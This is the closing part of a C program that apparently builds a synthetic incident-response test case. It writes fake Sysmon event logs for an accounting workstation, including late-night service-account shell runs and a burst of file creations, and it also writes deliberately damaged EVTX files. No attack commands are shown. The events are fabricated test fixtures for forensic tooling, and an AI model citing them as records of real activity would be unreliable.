	evtx_set_id(w, 31007);
	for (int d = 88; d < WORKDAYS - 1; d++) { /* from 3 August to the day before the end */
		for (int i = 0; i < 8; i++) {
			static const char *const day[][3] = {
				{ "C:\\Program Files\\Compta", "compta.exe", "\"C:\\Program Files\\Compta\\compta.exe\" /session" },
				{ SYSTEM32, "notepad.exe", "notepad.exe C:\\Compta\\2026\\notes.txt" },
				{ SYSTEM32, "calc.exe", "calc.exe" },
				{ "C:\\Program Files\\Tableur", "tableur.exe", "tableur.exe C:\\Compta\\2026\\bilan.ods" },
			};
			int k = (d + i) % 4;

			process(w, workday(d) + (7 + i) * VG_HOUR + d % 50 * VG_MIN, "c.dubois", "0x2bd10", day[k][0], day[k][1], day[k][2], "C:\\Windows\\explorer.exe");
		}
		for (size_t i = 0; workday(d) == at(8, 13, 0, 0, 0) && i < COUNT(tools); i++)
			process(w, at(8, 13, 22, 30, (int)i * 9), service_account.name, service_account.logon, SYSTEM32, tools[i][0], tools[i][1], SHELL);
	}
	for (size_t i = 0; i < COUNT(last); i++)
		process(w, at(9, 4, 2, 11, (int)i * 5), service_account.name, service_account.logon, SYSTEM32, last[i][0], last[i][1], SHELL);
	for (int i = 40; i >= 0; i--)
		file_made(w, at(9, 4, 2, 12, 45 - i), i);
	if (!evtx_save(w, path_of("WS-COMPTA/Sysmon.evtx")))
		die("WS-COMPTA/Sysmon.evtx");
	evtx_free(w);
	date_file("WS-COMPTA/Sysmon.evtx");
}

/* ---- what is damaged, and what no reader knows ---- */

static void
make_damage(void)
{
	enum { CHUNK = 65536, HEADER = 4096, CHUNKS = 4 };
	struct evtx_writer *w = evtx_new();
	const uint8_t *p;
	uint8_t *copy = NULL, unknown[4096];
	size_t n;

	if (w == NULL)
		die("other");
	for (int d = 0; d < CHUNKS; d++) {
		if (d && !evtx_chunk(w))
			die("other");
		for (int i = 0; i < 20; i++) {
			char room[2][16];

			signin(w, at(3, 2 + d, 8 + i / 4, i * 13 % 60, i), "WS-OLD.corp.example", colleague(i, room), "10.0.0.77", "3");
		}
	}
	if ((p = evtx_bytes(w, &n)) == NULL || n != HEADER + CHUNKS * CHUNK || (copy = malloc(n)) == NULL)
		die("other/cut.evtx");
	memcpy(copy, p, n);
	memset(copy + HEADER + CHUNK, 0, 128);			      /* the second chunk lost its header */
	save("other/cut.evtx", copy, HEADER + 3 * CHUNK + CHUNK / 16); /* and the fourth its end */
	for (size_t i = 0; i < sizeof(unknown); i++)
		unknown[i] = (i * 37) & 0xff;
	save("other/notes.bin", unknown, sizeof(unknown));
	free(copy);
	evtx_free(w);
}

int
main(int argc, char **argv)
{
	static const char *const folders[] = { "", "vpn-gateway", "web01", "esx01", "DC01", "DC01/shadow-copy", "SRV-FILES", "WS-COMPTA", "other" };

	if (argc != 2) {
		fprintf(stderr, "usage: sample DIR\n");
		return 2;
	}
	dir = argv[1];
	for (size_t i = 0; i < COUNT(folders); i++)
		if (mkdir(path_of(folders[i]), 0755) < 0 && errno != EEXIST)
			die(path_of(folders[i]));
	make_vpn();
	make_linux();
	make_hypervisor();
	make_dc();
	make_server();
	make_workstation();
	make_damage();
	printf("sample case in %s\n", dir);
	return 0;
}
